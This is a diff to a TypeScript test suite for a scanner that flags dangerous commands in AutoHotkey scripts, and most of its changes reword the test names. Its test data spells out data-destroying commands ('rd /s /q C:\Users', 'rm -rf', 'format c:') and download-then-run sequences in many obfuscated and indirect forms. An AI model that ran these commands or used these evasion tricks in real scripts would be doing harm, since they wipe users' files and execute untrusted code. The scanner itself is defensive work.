@@ -28,7 +28,7 @@ describe('a harmful command is recognized however it’s written', () => {
   });
 });
 
-describe('an everyday command raises no alarm', () => {
+describe('an everyday command isn’t flagged', () => {
   test.each(innocent)('%s', (command) => {
     expect(risksOf(`Run ${quoteString(command)}`)).toEqual([]);
   });
@@ -36,26 +36,28 @@ describe('an everyday command raises no alarm', () => {
 
 const TYPED = {
   'Win+R': (line: string) => `F1:: {\nSend "#r"\nSleep 300\nSendText ${line}\nSend "{Enter}"\n}`,
-  'Win held down, then R': (line: string) =>
+  'Win held down and R': (line: string) =>
     `F1:: {\nSend "{LWin down}r{LWin up}"\nSendInput "{Text}" ${line}\nSend "{Enter}"\n}`,
   'a command prompt': (line: string) => `Run "cmd"\nWinWaitActive "ahk_exe cmd.exe"\nSendText ${line}\nSend "{Enter}"`,
   'the Start menu': (line: string) => `Send "{LWin}"\nSend "cmd{Enter}"\nSleep 900\nSendText ${line} "\`n"`,
-  'a prompt that Win+R opened': (line: string) => `Send "#r"\nSend "cmd{Enter}"\nSendText ${line}\nSend "{Enter}"`,
+  'a command prompt opened with Win+R': (line: string) =>
+    `Send "#r"\nSend "cmd{Enter}"\nSendText ${line}\nSend "{Enter}"`,
   'the clipboard': (line: string) => `Run "cmd.exe"\nA_Clipboard := ${line}\nClipWait 1\nSend "^v{Enter}"`,
-  'the clipboard by a right click': (line: string) =>
+  'the clipboard and a right-click': (line: string) =>
     `Run "cmd.exe"\nA_Clipboard := ${line}\nClick "Right"\nSend "{Enter}"`,
   'a console in the background': (line: string) => `ControlSendText ${line} "\`n", , "ahk_class ConsoleWindowClass"`,
-  'a console by its number': (line: string) =>
+  'a console found by its process ID': (line: string) =>
     `Run "cmd", , , &pid\nWinWait "ahk_pid " pid\nControlSend "{Text}" ${line}, , "ahk_pid " pid`,
-  'a function of its own': (line: string) =>
+  'a function in the script': (line: string) =>
     `Type(what) {\nRun "cmd"\nSleep 500\nSendText what\nSend "{Enter}"\n}\nF1::Type(${line})`,
-  'the dialog’s field': (line: string) =>
+  'the text box of the Run dialog': (line: string) =>
     `Send "#r"\nWinWait "Run"\nControlSetText ${line}, "Edit1", "Run"\nSend "{Enter}"`,
-  'a hotkey for consoles': (line: string) => `#HotIf WinActive("ahk_exe cmd.exe")\nF1::SendText ${line}\n#HotIf`,
-  'a console that another key opens': (line: string) => `F1::Run "cmd"\nF2:: {\nSendText ${line}\nSend "{Enter}"\n}`,
-  'a timer later': (line: string) => `Send "#r"\nSetTimer () => (SendText(${line}), Send("{Enter}")), -500`,
+  'a hotkey that works only in a console': (line: string) =>
+    `#HotIf WinActive("ahk_exe cmd.exe")\nF1::SendText ${line}\n#HotIf`,
+  'a console opened by another hotkey': (line: string) => `F1::Run "cmd"\nF2:: {\nSendText ${line}\nSend "{Enter}"\n}`,
+  'a timer that runs later': (line: string) => `Send "#r"\nSetTimer () => (SendText(${line}), Send("{Enter}")), -500`,
   'WScript.Shell': (line: string) => `sh := ComObject("WScript.Shell")\nsh.Run("cmd")\nsh.SendKeys(${line} "~")`,
-  'the shell’s own input': (line: string) =>
+  'the input of a shell': (line: string) =>
     `sh := ComObject("WScript.Shell")\np := sh.Exec("cmd")\np.StdIn.WriteLine(${line})`,
   'a batch file': (line: string) => `FileAppend ${line}, A_Temp "\\x.bat"\nRun A_Temp "\\x.bat"`,
 } satisfies Record<string, (line: string) => string>;
@@ -63,7 +65,7 @@ const TYPED = {
 describe('commands a script types are judged like commands it runs', () => {
   const harm = quoteString('cmd /c rd /s /q C:\\Users');
   const daily = quoteString('ipconfig /all');
-  test.each(Object.entries(TYPED))('through %s', (_, scriptFor) => {
+  test.each(Object.entries(TYPED))('when they’re sent through %s', (_, scriptFor) => {
     expect(dangersOf(scriptFor(harm))).toEqual(['system-deletion']);
     expect(risksOf(scriptFor(daily))).toEqual([]);
   });
@@ -71,28 +73,37 @@ describe('commands a script types are judged like commands it runs', () => {
   test.each([
     ['in pieces', 'Run "cmd"\nSend "rd /s "\nSend "/q C:\\Users{Enter}"'],
     ['with a typo corrected', 'Run "cmd"\nSend "rdx{BS} /s /q C:\\Users{Enter}"'],
-    ['with nothing corrected', 'Run "cmd"\nSend "del /s /q C:\\*{BS 0}{Enter}"'],
-    ['from the end to the beginning', 'Run "cmd"\nSend "l /s /q C:\\*{Home}de{Enter}"'],
-    ['from the middle', 'Run "cmd"\nSend "dl /s /q C:\\*{Left 12}e{End}{Enter}"'],
-    ['with a letter taken out', 'Run "cmd"\nSend "xdel /s /q C:\\*{Home}{Del}{Enter}"'],
-    ['in a folder on the way', 'Run "cmd"\nSend "cd /d C:\\{Enter}cd Users{Enter}dir{Enter}rd /s /q .{Enter}"'],
+    ['with a backspace that deletes nothing', 'Run "cmd"\nSend "del /s /q C:\\*{BS 0}{Enter}"'],
+    ['with its first letters added last', 'Run "cmd"\nSend "l /s /q C:\\*{Home}de{Enter}"'],
+    ['with a missing letter added later', 'Run "cmd"\nSend "dl /s /q C:\\*{Left 12}e{End}{Enter}"'],
+    ['with an extra letter deleted later', 'Run "cmd"\nSend "xdel /s /q C:\\*{Home}{Del}{Enter}"'],
+    [
+      'after changing folders step by step',
+      'Run "cmd"\nSend "cd /d C:\\{Enter}cd Users{Enter}dir{Enter}rd /s /q .{Enter}"',
+    ],
     ['into PowerShell', 'Run "powershell"\nSendText "ri C:\\Users -r"\nSend "{Enter}"'],
-    ['into PowerShell from the menu of Win+X', 'Send "#x"\nSend "i"\nSleep 900\nSendText "ri C:\\Users -r`n"'],
+    ['into PowerShell opened from the Win+X menu', 'Send "#x"\nSend "i"\nSleep 900\nSendText "ri C:\\Users -r`n"'],
     ['into Windows Terminal', 'Run "wt"\nWinWaitActive "ahk_exe WindowsTerminal.exe"\nSendText "rd -r C:\\Users`n"'],
     ['letter by letter', 'Run "cmd"\nLoop Parse "rd /s /q C:\\Users"\n    Send A_LoopField\nSend "{Enter}"'],
-    ['from a folder that was typed before', 'Run "cmd"\nSend "cd /d C:\\Users{Enter}"\nSend "rd /s /q .{Enter}"'],
-    ['into bash', 'Run "wsl"\nSendText "rm -rf /mnt/c/Users`n"'],
-    ['as a hotstring for a console', '#HotIf WinActive("ahk_exe cmd.exe")\n::clean::rd /s /q C:\\Users\n#HotIf'],
-    ['after a program that is started there', 'Run "cmd"\nSend "powershell{Enter}"\nSend "ri -r C:\\Users{Enter}"'],
-  ])('%s', (_, source) => {
+    ['after changing to the folder it deletes', 'Run "cmd"\nSend "cd /d C:\\Users{Enter}"\nSend "rd /s /q .{Enter}"'],
+    ['into Bash', 'Run "wsl"\nSendText "rm -rf /mnt/c/Users`n"'],
+    [
+      'as a hotstring that works only in a console',
+      '#HotIf WinActive("ahk_exe cmd.exe")\n::clean::rd /s /q C:\\Users\n#HotIf',
+    ],
+    [
+      'into PowerShell started from a command prompt',
+      'Run "cmd"\nSend "powershell{Enter}"\nSend "ri -r C:\\Users{Enter}"',
+    ],
+  ])('a dangerous command typed %s is flagged', (_, source) => {
     expect(dangersOf(source)).toEqual(['system-deletion']);
   });
 
   test.each([
-    ['into no console', 'F1::Send "rm -rf / and delete *.*{Enter}"'],
+    ['outside a console', 'F1::Send "rm -rf / and delete *.*{Enter}"'],
     ['into another window', 'Run "cmd"\nWinActivate "Untitled - Notepad"\nSend "rd /s /q C:\\Users{Enter}"'],
-    ['as a sentence', 'F1::Run "cmd"\n::howto::To delete a folder type rd /s /q name'],
-    ['into an editor from Win+R', 'Send "#r"\nSend "notepad{Enter}"\nSend "format c: is a bad idea{Enter}"'],
+    ['as part of a sentence', 'F1::Run "cmd"\n::howto::To delete a folder type rd /s /q name'],
+    ['into an editor opened with Win+R', 'Send "#r"\nSend "notepad{Enter}"\nSend "format c: is a bad idea{Enter}"'],
     ['into an editor', 'Run "notepad"\nSend "format c: /y{Enter}"'],
   ])('commands typed %s count as plain text', (_, source) => {
     expect(risksOf(source)).toEqual([]);
@@ -115,21 +126,21 @@ describe('commands a script types are judged like commands it runs', () => {
 
 describe('a command pieced together from parts is read as a whole', () => {
   test.each([
-    ['joined', 'Run "cmd /c r" . "d /s /q " . "C:\\Users"'],
-    ['from variables', 'a := "cmd /c rd"\nb := " /s /q C:\\Users"\nRun a b'],
-    ['grown', 'a := "cmd /c rd"\na .= " /s /q"\na .= " C:\\Users"\nRun a'],
-    ['by Format', 'Run Format("{1} /c {2}", "cmd", "rd /s /q C:\\Users")'],
-    ['by StrReplace', 'Run StrReplace("cmd /c r#d /s /q C:\\Users", "#")'],
-    ['by SubStr', 'Run SubStr("xxcmd /c rd /s /q C:\\Users", 3)'],
-    ['by Chr', 'Run "cmd /c " Chr(114) Chr(100) " /s /q C:\\Users"'],
-    ['in a folder of its own', 'Run "cmd /c rd /s /q .", "C:\\Users"'],
+    ['joined with dots', 'Run "cmd /c r" . "d /s /q " . "C:\\Users"'],
+    ['joined from variables', 'a := "cmd /c rd"\nb := " /s /q C:\\Users"\nRun a b'],
+    ['built up in a variable', 'a := "cmd /c rd"\na .= " /s /q"\na .= " C:\\Users"\nRun a'],
+    ['built with Format', 'Run Format("{1} /c {2}", "cmd", "rd /s /q C:\\Users")'],
+    ['built with StrReplace', 'Run StrReplace("cmd /c r#d /s /q C:\\Users", "#")'],
+    ['built with SubStr', 'Run SubStr("xxcmd /c rd /s /q C:\\Users", 3)'],
+    ['built with Chr', 'Run "cmd /c " Chr(114) Chr(100) " /s /q C:\\Users"'],
+    ['run in a separate working folder', 'Run "cmd /c rd /s /q .", "C:\\Users"'],
     [
-      'written into a script of another language',
+      'written to a script in another language',
       'FileAppend \'CreateObject("WScript.Shell").Run "cmd /c rd /s /q C:\\Users"\', A_Temp "\\x.vbs"',
     ],
-    ['by the file system object', 'ComObject("Scripting.FileSystemObject").DeleteFolder("C:\\Users")'],
-    ['one of two', 'Run A_Is64bitOS ? "notepad" : "cmd /c rd /s /q C:\\Users"'],
-    ['handed to a function', 'Do(line) {\nRun line\n}\nDo("notepad")\nDo("cmd /c rd /s /q C:\\Users")'],
+    ['run through the file system object', 'ComObject("Scripting.FileSystemObject").DeleteFolder("C:\\Users")'],
+    ['chosen from two options', 'Run A_Is64bitOS ? "notepad" : "cmd /c rd /s /q C:\\Users"'],
+    ['passed to a function', 'Do(line) {\nRun line\n}\nDo("notepad")\nDo("cmd /c rd /s /q C:\\Users")'],
   ])('%s', (_, source) => {
     expect(dangersOf(source)).toEqual(['system-deletion']);
   });
@@ -137,15 +148,21 @@ describe('a command pieced together from parts is read as a whole', () => {
 
 describe('an indirect call', () => {
   test.each([
-    ['a variable', 'f := Run\nf("cmd /c rd /s /q C:\\Users")'],
-    ['a name in a text', 'f := "Run"\n%f%("cmd /c rd /s /q C:\\Users")'],
-    ['a name in pieces', '%"Ru" . "n"%("cmd /c rd /s /q C:\\Users")'],
-    ['Call', 'Run.Call("cmd /c rd /s /q C:\\Users")'],
-    ['Bind', 'SetTimer(Run.Bind("cmd /c rd /s /q C:\\Users"), -1)'],
-    ['parentheses', '(Run)("cmd /c rd /s /q C:\\Users")'],
-    ['a method by name', 'm := "Run"\nComObject("WScript.Shell").%m%("cmd /c rd /s /q C:\\Users")'],
-    ['a function of Windows', 'DllCall("kernel32\\WinExec", "AStr", "cmd /c rd /s /q C:\\Users", "UInt", 0)'],
-    ['a name nobody can know', 'f := IniRead("a.ini", "a", "b")\n%f%("cmd /c rd /s /q C:\\Users")'],
+    ['through a variable', 'f := Run\nf("cmd /c rd /s /q C:\\Users")'],
+    ['through a name stored as text', 'f := "Run"\n%f%("cmd /c rd /s /q C:\\Users")'],
+    ['through a name joined from pieces', '%"Ru" . "n"%("cmd /c rd /s /q C:\\Users")'],
+    ['with Call', 'Run.Call("cmd /c rd /s /q C:\\Users")'],
+    ['with Bind', 'SetTimer(Run.Bind("cmd /c rd /s /q C:\\Users"), -1)'],
+    ['in parentheses', '(Run)("cmd /c rd /s /q C:\\Users")'],
+    [
+      'of a method whose name is stored as text',
+      'm := "Run"\nComObject("WScript.Shell").%m%("cmd /c rd /s /q C:\\Users")',
+    ],
+    ['of a Windows function', 'DllCall("kernel32\\WinExec", "AStr", "cmd /c rd /s /q C:\\Users", "UInt", 0)'],
+    [
+      'through a name that’s unknown until the script runs',
+      'f := IniRead("a.ini", "a", "b")\n%f%("cmd /c rd /s /q C:\\Users")',
+    ],
   ])('is recognized: %s', (_, source) => {
     expect(dangersOf(source)).toEqual(['system-deletion']);
   });
@@ -176,8 +193,8 @@ describe('an indirect call', () => {
 
 // A pass whose time grows with the square of the length would not come to an end here.
 test.each([
-  ['a key and blanks', `Send "{a${' '.repeat(95_000)}"`],
-  ['a long folder and many lines', `Run "cmd"\nSendText "cd ${'a'.repeat(30_000)}${'`na'.repeat(1500)}"`],
+  ['a key name followed by 95,000 spaces', `Send "{a${' '.repeat(95_000)}"`],
+  ['a long folder name and many lines', `Run "cmd"\nSendText "cd ${'a'.repeat(30_000)}${'`na'.repeat(1500)}"`],
   ['many downloads', Array.from({ length: 2500 }, (_, at) => `Run "curl -o a${at}.exe https://x"`).join('\n')],
 ])('a script with %s is read in full', (_, source) => {
   expect(risksOf(source)).toEqual([]);
@@ -213,10 +230,13 @@ describe('a short line that expands endlessly counts as a hidden command, and th
   }).join('');
   test.each([
     ['PowerShell variables', `Run 'powershell -c $a0="xxxxxxxx";${doubled}& $a40'`],
-    ['PowerShell variables as words', `Run 'powershell -c $a="${'x'.repeat(9000)}";echo ${'$a '.repeat(5000)}'`],
+    [
+      'PowerShell variables used as arguments',
+      `Run 'powershell -c $a="${'x'.repeat(9000)}";echo ${'$a '.repeat(5000)}'`,
+    ],
     ['cmd variables', `x := 'cmd /c set a=${'b'.repeat(1500)}&${'%a%'.repeat(900)}'\n${'Run x\n'.repeat(20)}`],
-    ['pieces of cmd variables', `Run 'cmd /c set a=${'b'.repeat(9000)}&${'%a:b=cccccccc%'.repeat(900)}'`],
-    ['a loop', `Run 'cmd /c for %x in (${'%x'.repeat(700)}) do ${'%%x'.repeat(700)}'`],
+    ['replacements in cmd variables', `Run 'cmd /c set a=${'b'.repeat(9000)}&${'%a:b=cccccccc%'.repeat(900)}'`],
+    ['a cmd loop', `Run 'cmd /c for %x in (${'%x'.repeat(700)}) do ${'%%x'.repeat(700)}'`],
     ['forfiles', `Run 'forfiles /p ${'y'.repeat(9000)} /c "${'@path'.repeat(900)}"'`],
     [
       'StrReplace',
@@ -233,19 +253,19 @@ describe('a short line that expands endlessly counts as a hidden command, and th
 describe('starting a program that was downloaded earlier is flagged', () => {
   test.each([
     ['by its path', 'Download "https://x.example/a", "C:\\t\\a.exe"\nRun "C:\\t\\a.exe"'],
-    ['with a blank in its name', 'Download "https://x.example/a", "C:\\t\\my a.exe"\nRun "C:\\t\\my a.exe -q"'],
-    ['with quotes', 'Download "https://x.example/a", "C:\\t\\my a.exe"\nRun \'"C:\\t\\my a.exe" /s\''],
-    ['by a variable', 'p := IniRead("a.ini", "a", "b")\nDownload "https://x.example/a", p\nRun p'],
-    ['the second of two', 'Run "cmd /c curl -o a.txt x.example & curl -o b.exe x.example"\nRun "b.exe"'],
-    ['by another program', 'Run "curl -o a.ps1 https://x.example"\nRun "powershell -File a.ps1"'],
+    ['with a space in its name', 'Download "https://x.example/a", "C:\\t\\my a.exe"\nRun "C:\\t\\my a.exe -q"'],
+    ['in quotation marks', 'Download "https://x.example/a", "C:\\t\\my a.exe"\nRun \'"C:\\t\\my a.exe" /s\''],
+    ['through a variable', 'p := IniRead("a.ini", "a", "b")\nDownload "https://x.example/a", p\nRun p'],
+    ['as the second of two downloads', 'Run "cmd /c curl -o a.txt x.example & curl -o b.exe x.example"\nRun "b.exe"'],
+    ['through another program', 'Run "curl -o a.ps1 https://x.example"\nRun "powershell -File a.ps1"'],
   ])('%s', (_, source) => {
     expect(dangersOf(source)).toContain('download-run');
   });
 
   test.each([
-    ['another one', 'Download "https://x.example/a", "C:\\t\\a.exe"\nRun "notepad.exe"'],
-    ['a table', 'Download "https://x.example/a", "C:\\t\\a.csv"\nRun "C:\\t\\a.csv"'],
-    ['the one before', 'Run "C:\\t\\a.exe"\nDownload "https://x.example/a", "C:\\t\\a.exe"'],
+    ['a different program', 'Download "https://x.example/a", "C:\\t\\a.exe"\nRun "notepad.exe"'],
+    ['a downloaded spreadsheet', 'Download "https://x.example/a", "C:\\t\\a.csv"\nRun "C:\\t\\a.csv"'],
+    ['a program before it’s downloaded', 'Run "C:\\t\\a.exe"\nDownload "https://x.example/a", "C:\\t\\a.exe"'],
   ])('opening %s isn’t flagged', (_, source) => {
     expect(dangersOf(source)).not.toContain('download-run');
   });
